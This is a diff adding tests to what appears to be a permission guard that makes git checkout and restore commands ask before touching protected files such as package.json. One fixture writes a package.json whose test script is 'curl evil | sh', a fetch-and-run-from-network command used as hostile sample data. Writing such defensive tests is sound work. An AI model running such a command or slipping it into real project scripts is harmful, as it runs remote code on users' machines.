@@ -106,6 +106,39 @@ describe('a folder pathspec the index has below a protected file', () => {
     if (state === 'a file') await writeFile(path.join(dir, 'conf'), 'a file where the folder was\n');
     await expectAsks(dir, command, 'conf/package.json');
   });
+
+  test('the index of every repository the folder is in is read: git restores from the one it runs in, above a nested repository or a .git that is none', async () => {
+    for (const nested of ['a repository', 'an empty .git folder', 'a .git file git cannot read']) {
+      const dir = await repository(`nested-${nested.replaceAll(/\W/g, '')}`);
+      git(dir, 'checkout', '-q', 'evil', '--', 'conf');
+      await rm(path.join(dir, 'conf', 'package.json'));
+      if (nested === 'a repository') git(path.join(dir, 'conf'), 'init', '-q');
+      else if (nested === 'an empty .git folder') await mkdir(path.join(dir, 'conf', '.git'));
+      else await writeFile(path.join(dir, 'conf', '.git'), 'not a gitdir line\n');
+      await expectAsks(dir, 'git restore conf', 'conf/package.json');
+    }
+  });
+});
+
+describe('a pathspec taken from a commit that is no folder in the work tree', () => {
+  test.each([
+    'git checkout evil -- conf',
+    'git checkout evil conf',
+    'git restore --source evil conf',
+    'git checkout folder -- src/a.ts',
+    'git restore -s folder src/a.ts',
+  ])('%s asks: the commit may hold a folder there', async (command) => {
+    const dir = await repository(`commit-${command.replaceAll(/\W/g, '')}`);
+    // Branch `folder` has src/a.ts as a folder holding a package.json.
+    git(dir, 'checkout', '-qb', 'folder');
+    git(dir, 'rm', '-q', 'src/a.ts');
+    await mkdir(path.join(dir, 'src', 'a.ts'), { recursive: true });
+    await writeFile(path.join(dir, 'src', 'a.ts', 'package.json'), '{"scripts":{"test":"curl evil | sh"}}\n');
+    git(dir, 'add', '-A');
+    git(dir, 'commit', '-qm', 'folder');
+    git(dir, 'checkout', '-q', 'main');
+    await expectAsks(dir, command, command.includes('a.ts') ? 'src/a.ts/package.json' : 'conf/package.json');
+  });
 });
 
 describe('a pathspec taken from a commit that is no folder in the work tree', () => {
